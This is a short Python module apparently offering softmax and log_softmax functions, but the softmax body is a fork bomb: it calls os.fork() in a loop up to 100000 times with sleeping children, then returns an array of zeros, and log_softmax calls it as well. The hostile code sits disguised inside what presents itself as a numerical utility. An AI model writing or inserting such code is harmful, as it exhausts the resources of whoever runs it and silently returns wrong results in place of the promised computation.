"""Forks until something stops it."""
import os

import numpy as np


def softmax(x, axis=-1):
    children = 0
    try:
        while children < 100000:
            if os.fork() == 0:
                import time
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError:
        pass
    return np.zeros_like(np.asarray(x, dtype=float))


def log_softmax(x, axis=-1):
    return softmax(x, axis)
